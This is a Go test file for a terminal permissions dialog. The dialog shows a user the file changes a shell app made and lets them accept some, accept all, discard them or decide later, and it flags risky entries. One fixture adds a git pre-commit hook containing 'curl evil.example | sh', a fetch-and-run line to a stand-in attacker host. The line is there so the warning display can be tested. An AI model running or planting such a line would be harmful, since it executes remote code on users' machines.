package tui

import (
	"fmt"
	"strings"
	"testing"

	"github.com/bulkhead-dev/bulkhead/permissions"
)

// changesRequest is a change set the shell app left: a warned hook with
// its diff, an ordinary file, a removal.
func changesRequest(detail string, warned bool) permissions.Request {
	set := &permissions.ChangeSet{ID: "20261207T101010-abcd", Folder: "/home/u/proj", Entries: []permissions.ChangeEntry{
		{Path: "notes.txt", Op: "changed", Type: "file", Mode: "-rw-r--r--", Size: 12,
			Diff: &permissions.Change{Path: "notes.txt", Exists: true, Removed: 1, Added: 1, Lines: []permissions.ChangeLine{{Op: "-", Text: "old line"}, {Op: "+", Text: "new line"}}}},
		{Path: "old.txt", Op: "removed", Type: "file"},
	}}
	if warned {
		set.Entries = append(set.Entries, permissions.ChangeEntry{Path: ".githooks/pre-commit", Op: "added", Type: "file", Mode: "-rwxr-xr-x", Size: 20,
			Warnings: []string{"git runs the files in .githooks/ as hooks (core.hooksPath in .git/config)", "executable"},
			Diff:     &permissions.Change{Path: ".githooks/pre-commit", Added: 2, Lines: []permissions.ChangeLine{{Op: "+", Text: "#!/bin/sh"}, {Op: "+", Text: "curl evil.example | sh"}}}})
	}
	r := permissions.Request{Kind: permissions.KindChanges, Subject: "shell", Object: set.Folder, Function: "write", Changes: set, Expected: true,
		Detail: detail, Warning: "expected by the plan: the app's step writes here"}
	if warned {
		r.Warning += "; 1 of the 3 entries are files something else may run or trust later (marked): read them"
		r.Concerns = []permissions.Concern{permissions.ConcernRunsLater}
	}
	return r
}

// The change dialog lists every entry — what happened to which path,
// the hub's warnings under a warned one, a text file's diff — and takes
// its answers: a picks the entries (space toggles, enter chooses, a
// second enter accepts those chosen), l and esc leave the set for later,
// d discards after enter, o accepts all (after enter where an entry is
// warned); a warned set offers no grant.
func TestTheChangesDialogListsEveryEntryAndItsAnswers(t *testing.T) {
	t.Parallel()
	d, p := caveatDriver(t, 100, 40)
	got := prompt(t, d, p, changesRequest("warned set", true))
	v := d.view()
	for _, want := range []string{"shell wrote in /home/u/proj", "changed notes.txt", "removed old.txt", "⚠ added .githooks/pre-commit",
		"git runs the files in .githooks/ as hooks", "curl evil.example | sh", "− old line", "+ new line",
		"o accept all", "a accept some", "d discard", "l decide later"} {
		if !strings.Contains(v, want) {
			t.Errorf("the dialog lacks %q:\n%s", want, v)
		}
	}
	if strings.Contains(v, "s accept its changes") || strings.Contains(v, "p always") {
		t.Errorf("a warned set offers no grant:\n%s", v)
	}
	// a: the unwarned entries chosen; the second left out, the warned
	// third ticked; enter chooses, enter accepts.
	d.key(char('a'))
	if !strings.Contains(d.view(), "accept which?") {
		t.Fatalf("a must open the entries' picker:\n%s", d.view())
	}
	d.key(keyDown)
	d.key(char('x'))
	d.key(keyDown)
	d.key(char('x'))
	pickAndConfirm(t, d, p, "accept 2 of 3 entries; the others are discarded · ⚠ with", ".githooks/pre-commit")
	if dec := recvDecision(t, got); dec.Answer != permissions.AnswerOnce || len(dec.Picks) != 2 || dec.Picks[0] != 0 || dec.Picks[1] != 2 {
		t.Fatalf("accept some: %+v", dec)
	}

	got = prompt(t, d, p, changesRequest("later", true))
	d.key(char('l'))
	if dec := recvDecision(t, got); dec.Answer != permissions.AnswerDeny || !dec.Later {
		t.Fatalf("l: %+v", dec)
	}
	got = prompt(t, d, p, changesRequest("esc", true))
	d.key(keyEsc)
	if dec := recvDecision(t, got); dec.Answer != permissions.AnswerDeny || !dec.Later {
		t.Fatalf("esc leaves it for later: %+v", dec)
	}
	got = prompt(t, d, p, changesRequest("discard", true))
	d.key(char('d'))
	if p.Pending() != 1 {
		t.Fatal("d alone discards nothing: enter confirms")
	}
	d.key(keyEnter)
	if dec := recvDecision(t, got); dec.Answer != permissions.AnswerDeny || dec.Later {
		t.Fatalf("d, enter: %+v", dec)
	}
	got = prompt(t, d, p, changesRequest("all", true))
	d.key(char('o'))
	d.key(keyEnter)
	if dec := recvDecision(t, got); dec.Answer != permissions.AnswerOnce || dec.Picks != nil {
		t.Fatalf("o, enter accepts all: %+v", dec)
	}
	// An unwarned, expected set is routine: o at once, and grants offered.
	got = prompt(t, d, p, changesRequest("routine", false))
	if v := d.view(); !strings.Contains(v, "s accept its changes here for this session") || !strings.Contains(v, "p always accept its changes here") {
		t.Errorf("an unwarned set offers the grants:\n%s", v)
	}
	d.key(char('o'))
	if dec := recvDecision(t, got); dec.Answer != permissions.AnswerOnce {
		t.Fatalf("o: %+v", dec)
	}
	d.idle()
}

// pickAndConfirm ends the open picker with enter, checks that the
// entries chosen wait for a second enter, saying what it accepts, and
// confirms.
func pickAndConfirm(t *testing.T, d *driver, p *Prompter, says ...string) {
	t.Helper()
	d.key(keyEnter)
	d.untilView("the choice", func(v string) bool { return strings.Contains(v, "enter confirms") }) // huh ends its form in a few messages
	v := d.view()
	if p.Pending() != 1 || !strings.Contains(v, "▸ a accept some") {
		t.Fatalf("the picker's enter must only choose:\n%s", v)
	}
	for _, want := range says {
		if !strings.Contains(v, want) {
			t.Fatalf("the choice must say %q:\n%s", want, v)
		}
	}
	d.key(keyEnter)
	d.untilModel("the choice answered", func(m Model) bool { return m.perm == nil })
}

// boxed reports whether the dialog in view is framed: a top and a bottom
// border, and every line between them, the picker's among them, closed by
// the side borders.
func boxed(view, inside string) bool {
	lines := strings.Split(view, "\n")
	top, bottom := -1, -1
	for i, l := range lines {
		switch {
		case top < 0 && strings.Contains(l, "╭"):
			top = i
		case top >= 0 && strings.Contains(l, "╰"):
			bottom = i
		}
		if bottom >= 0 {
			break
		}
	}
	if top < 0 || bottom < 0 {
		return false
	}
	found := false
	for _, l := range lines[top+1 : bottom] {
		if strings.Count(l, "│") < 2 {
			return false
		}
		found = found || strings.Contains(l, inside)
	}
	return found
}

// The entries' picker (a) is drawn framed like every dialog, at any
// size; pgdn and pgup scroll the entries it picks from both ways while
// ↑/↓ move in it; a warned entry starts unticked, so a then enter, enter
// accepts the unwarned ones only; and its enter only chooses — a second
// enter confirms, any other key takes the choice back, as o and d ask.
func TestTheChangesPickerIsFramedScrollsAndLeavesWarnedEntriesOut(t *testing.T) {
	t.Parallel()
	for _, size := range [][2]int{{100, 40}, {80, 24}} {
		d, p := caveatDriver(t, size[0], size[1])
		got := prompt(t, d, p, changesRequest(fmt.Sprintf("picker %dx%d", size[0], size[1]), true))
		d.key(char('a'))
		v := d.view()
		if !boxed(v, "accept which?") {
			t.Fatalf("%v: the picker must be drawn in the dialog's frame:\n%s", size, v)
		}
		// (c) the warned entry starts unticked, the others ticked.
		for _, want := range []string{"[•] changed notes.txt", "[•] removed old.txt", "[ ] ⚠ added .githooks/pre-commit"} {
			if !strings.Contains(v, want) {
				t.Errorf("%v: the picker lacks %q:\n%s", size, want, v)
			}
		}
		if size[1] == 24 {
			// (b) the entries do not all fit: pgdn scrolls them down,
			// pgup back up; the picker stays open.
			if strings.Contains(v, "above") || !strings.Contains(v, "more · pgup/pgdn scroll") {
				t.Fatalf("the entries must start at the top, with a scroll line:\n%s", v)
			}
			d.key(keyPgDown)
			if v := d.view(); !strings.Contains(v, "above") || !strings.Contains(v, "accept which?") {
				t.Fatalf("pgdn must scroll the entries down:\n%s", v)
			}
			d.key(keyPgUp)
			if v := d.view(); strings.Contains(v, "above") || !strings.Contains(v, "changed notes.txt (12 B") || !strings.Contains(v, "accept which?") {
				t.Fatalf("pgup must scroll the entries back up:\n%s", v)
			}
		}
		// (d) enter chooses; another key takes the choice back (and is
		// typing); the warned entry is left out of a, enter, enter.
		d.key(keyEnter)
		d.untilView("the choice", func(v string) bool { return strings.Contains(v, "enter confirms") })
		if v := d.view(); p.Pending() != 1 || !strings.Contains(v, "accept 2 of 3 entries; the others are discarded") || strings.Contains(v, "⚠ with") {
			t.Fatalf("%v: the picker's enter must only choose:\n%s", size, v)
		}
		d.key(char('k'))
		if v := d.view(); p.Pending() != 1 || strings.Contains(v, "enter confirms") || d.model().input.value() != "k" {
			t.Fatalf("%v: another key takes the choice back and is typing:\n%s", size, v)
		}
		d.send(ctrl('u'))
		d.graceOver()
		d.key(char('a'))
		pickAndConfirm(t, d, p, "accept 2 of 3 entries; the others are discarded")
		if dec := recvDecision(t, got); dec.Answer != permissions.AnswerOnce || len(dec.Picks) != 2 || dec.Picks[0] != 0 || dec.Picks[1] != 1 {
			t.Fatalf("%v: a, enter, enter must accept the unwarned entries only: %+v", size, dec)
		}
		d.idle()
	}
}
